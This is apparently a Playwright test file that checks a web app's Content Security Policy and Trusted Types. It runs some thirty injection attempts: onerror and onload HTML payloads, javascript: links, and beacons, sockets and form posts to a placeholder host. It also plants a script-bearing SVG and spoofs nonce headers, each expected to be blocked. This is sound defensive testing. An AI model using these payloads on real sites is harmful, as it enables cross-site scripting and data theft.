"""Whatever got into a page would find every way to run, load or send something shut."""

import re
from dataclasses import dataclass

import pytest
from playwright.sync_api import Page, expect

from tests.browser.complaints import Complaints
from tests.browser.site import Site

pytestmark = pytest.mark.browser


@dataclass(frozen=True, slots=True)
class Attempt:
    """JavaScript that sets ``owned``, loads or sends something, and the directive that stops it."""

    name: str
    script: str
    complaint: str


TRUSTED = "require-trusted-types-for"
ATTEMPTS = (
    Attempt("eval", "eval('owned = 1')", TRUSTED),
    Attempt("new Function", "new Function('owned = 1')()", TRUSTED),
    Attempt("a timer of text", "setTimeout('owned = 1')", TRUSTED),
    Attempt("innerHTML", "document.body.innerHTML = '<img src=x onerror=owned=1>'", TRUSTED),
    Attempt("outerHTML", "document.body.outerHTML = '<body onload=owned=1>'", TRUSTED),
    Attempt("insertAdjacentHTML", "document.body.insertAdjacentHTML('beforeend', '<svg onload=owned=1>')", TRUSTED),
    Attempt("document.write", "document.write('<script>owned = 1</script>')", TRUSTED),
    Attempt("a parser", "new DOMParser().parseFromString('<p>', 'text/html'); owned = 1", TRUSTED),
    Attempt("a range", "document.createRange().createContextualFragment('<p>'); owned = 1", TRUSTED),
    Attempt("a script's text", "make('script', (one) => (one.text = 'owned = 1'))", TRUSTED),
    Attempt("a script from elsewhere", "make('script', (one) => (one.src = 'https://canary.invalid/x.js'))", TRUSTED),
    Attempt("a script from the API", "make('script', (one) => (one.src = '/api/v1/documents'))", TRUSTED),
    Attempt("a script beside ours", "make('script', (one) => (one.src = '/_next/static/../../api/x'))", TRUSTED),
    Attempt("a handler", "make('b', (one) => one.setAttribute('onclick', 'owned = 1')).click()", TRUSTED),
    Attempt("a link that runs", "make('a', (one) => (one.href = 'javascript:owned = 1')).click()", "script-src-elem"),
    Attempt(
        "a worker from a blob", "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); owned = 1", TRUSTED
    ),
    Attempt("a worker from data", "new Worker('data:text/javascript,postMessage(1)'); owned = 1", TRUSTED),
    Attempt("a service worker", "await navigator.serviceWorker.register('/api/v1/documents'); owned = 1", TRUSTED),
    Attempt("a frame's srcdoc", "make('iframe', (one) => (one.srcdoc = '<script>parent.owned = 1</script>'))", TRUSTED),
    Attempt("a frame from elsewhere", "make('iframe', (one) => (one.src = 'https://canary.invalid/'))", "frame-src"),
    Attempt("an object", "make('object', (one) => (one.data = '/api/v1/documents'))", TRUSTED),
    Attempt("a request elsewhere", "await fetch('https://canary.invalid/'); owned = 1", "connect-src"),
    Attempt("a beacon", "navigator.sendBeacon('https://canary.invalid/', 'x')", "connect-src"),
    Attempt("a socket", "new WebSocket('wss://canary.invalid/')", "connect-src"),
    Attempt("a picture elsewhere", "make('img', (one) => (one.src = 'https://canary.invalid/x.png'))", "img-src"),
    Attempt("a style sheet elsewhere", "make('link', styled)", "style-src-elem"),
    Attempt(
        "a font elsewhere", "await new FontFace('x', 'url(https://canary.invalid/f)').load(); owned = 1", "font-src"
    ),
    Attempt("a film elsewhere", "make('video', (one) => (one.src = 'https://canary.invalid/v'))", "media-src"),
    Attempt("another base", "make('base', (one) => (one.href = '//canary.invalid/')); owned = rebased()", "base-uri"),
    Attempt(
        "a form elsewhere", "make('form', (one) => (one.action = 'https://canary.invalid/')).submit()", "form-action"
    ),
    Attempt(
        "a policy of one's own", "trustedTypes.createPolicy('mine', { createHTML: String }); owned = 1", "trusted-types"
    ),
)
_TRY = """async () => {
  // Not in the driver's own turn: the browser would allow it eval.
  await new Promise((later) => setTimeout(later));
  window.owned = undefined;
  const violated = [];
  const told = new Promise((tell) => {
    const listen = ({ violatedDirective }) => { violated.push(violatedDirective); tell(); };
    addEventListener('securitypolicyviolation', listen, { once: true });
    setTimeout(tell, 5_000);
  });
  const make = (tag, change) => {
    const one = document.createElement(tag);
    change(one);
    return document.body.appendChild(one);
  };
  const styled = (one) => Object.assign(one, { rel: 'stylesheet', href: 'https://canary.invalid/x.css' });
  const rebased = () => (document.baseURI.includes('canary') ? 1 : undefined);
  try { %s } catch { /* refused at once */ }
  await told;
  return `${window.owned ?? 'nothing'}, ${violated}`;
}"""
_RUNS_WHEN_OPENED = """<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.id = 'owned'">
  <script>document.documentElement.id = 'owned'</script>
</svg>"""


def test_whatever_got_into_the_workbench_finds_every_way_shut(signed_in: Page, complaints: Complaints) -> None:
    complaints.expect("^CSP violation: |violates the |requires 'Trusted|canary.invalid")
    signed_in.goto("/d/vpn/wireguard-troubleshooting.md")
    expect(signed_in.get_by_role("region", name="Preview").get_by_role("heading").first).to_be_visible()
    outcomes = {attempt.name: signed_in.evaluate(_TRY % attempt.script) for attempt in ATTEMPTS}
    ways = {attempt.name: f"nothing, {attempt.complaint}" for attempt in ATTEMPTS}
    assert outcomes == ways


def test_a_picture_that_is_opened_by_itself_is_kept_from_running(signed_in: Page, site: Site) -> None:
    assets = site.documents / "vpn" / "wireguard-troubleshooting.assets"
    assets.mkdir()
    (assets / "drawn.svg").write_text(_RUNS_WHEN_OPENED, encoding="utf-8")
    address = "/api/v1/asset?path=vpn/wireguard-troubleshooting.assets/drawn.svg"
    answer = signed_in.request.get(address)
    assert answer.status == 200
    assert "sandbox" in answer.headers["content-security-policy"]
    with signed_in.expect_download():
        signed_in.evaluate("(address) => void window.open(address)", address)


def test_every_page_has_a_nonce_of_its_own_and_takes_none_from_a_request(page: Page) -> None:
    spoofed = {"x-nonce": "mine", "content-security-policy": "script-src 'nonce-mine'"}
    answers = [page.request.get("/login", headers=spoofed) for _ in range(3)]
    nonces = [re.findall(r"'nonce-([^']+)'", answer.headers["content-security-policy"]) for answer in answers]
    assert len({nonce for found in nonces for nonce in found}) == 3
    assert all("mine" not in found for found in nonces)
    assert all('nonce="mine"' not in answer.text() for answer in answers)
